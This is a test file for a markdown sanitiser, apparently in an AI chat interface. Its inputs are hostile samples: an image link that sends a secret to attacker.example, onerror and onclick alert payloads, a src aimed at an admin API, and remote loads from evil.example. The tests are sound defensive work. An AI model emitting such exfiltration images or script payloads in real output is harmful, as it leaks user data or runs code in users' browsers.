import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.ts';

function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

const remoteSources = (el: HTMLElement) =>
  [...el.querySelectorAll('[src], [srcset], [poster], [background]')].filter((n) => !/^data:/i.test(n.getAttribute('src') ?? ''));

describe('markdown sanitiser', () => {
  it('never turns a markdown image with a remote URL into an <img>', () => {
    const el = dom(renderMarkdown('See ![exfil](https://attacker.example/pixel.png?secret=1) here'));
    expect(el.querySelector('img')).toBeNull();
    expect(el.textContent).toContain('[image: exfil]');
    expect(el.innerHTML).not.toContain('attacker.example');
  });

  it('never keeps a raw <img> with a remote or relative src, nor its onerror', () => {
    const el = dom(renderMarkdown('<img src="https://attacker.example/x.png" onerror="alert(1)"> and <img src="/api/v1/admin/users">'));
    expect(el.querySelectorAll('img')).toHaveLength(0);
    expect(el.innerHTML).not.toMatch(/onerror|attacker\.example|admin\/users/);
  });

  it('removes protocol-relative, srcset and reference-style image loads', () => {
    const md = '<img src="//evil.example/a.png">\n\n<img srcset="https://evil.example/b.png 2x">\n\n![ref][pic]\n\n[pic]: https://evil.example/c.png';
    const el = dom(renderMarkdown(md));
    expect(remoteSources(el)).toEqual([]);
    expect(el.innerHTML).not.toContain('evil.example');
  });

  it('keeps an inline data: image', () => {
    const data = 'data:image/png;base64,iVBORw0KGgo=';
    const el = dom(renderMarkdown(`![dot](${data})`));
    expect(el.querySelector('img')?.getAttribute('src')).toBe(data);
  });

  it('strips scripts, event handlers, styles, frames and javascript: links', () => {
    const md = [
      '<script>alert(1)</script>',
      '<div style="background:url(https://evil.example/s)">styled</div>',
      '<iframe src="https://evil.example"></iframe>',
      '<video poster="https://evil.example/p.png"></video>',
      '[click](javascript:alert(1))',
      '<a href="#" onclick="alert(1)">x</a>',
    ].join('\n\n');
    const html = renderMarkdown(md);
    expect(html).not.toMatch(/<script|onclick|javascript:|<iframe|<video|style=|evil\.example/i);
  });

  it('opens links in a new tab without giving the page a handle on ours', () => {
    const a = dom(renderMarkdown('[docs](https://intranet.example/page)')).querySelector('a');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(a?.getAttribute('rel')).toContain('noopener');
  });

  it('turns [n] into a citation chip only when source n exists', () => {
    const el = dom(renderMarkdown('Energy was high [1]. See also [2, 3].', [1, 3]));
    const chips = [...el.querySelectorAll('button[data-cite]')].map((b) => b.getAttribute('data-cite'));
    expect(chips).toEqual(['1', '3']);
    expect(el.textContent).toContain('[2]');
  });

  it('renders ordinary markdown', () => {
    const el = dom(renderMarkdown('# Title\n\n- **bold** item\n- `code`'));
    expect(el.querySelector('h1')?.textContent).toBe('Title');
    expect(el.querySelector('li strong')?.textContent).toBe('bold');
    expect(el.querySelector('code')?.textContent).toBe('code');
  });
});
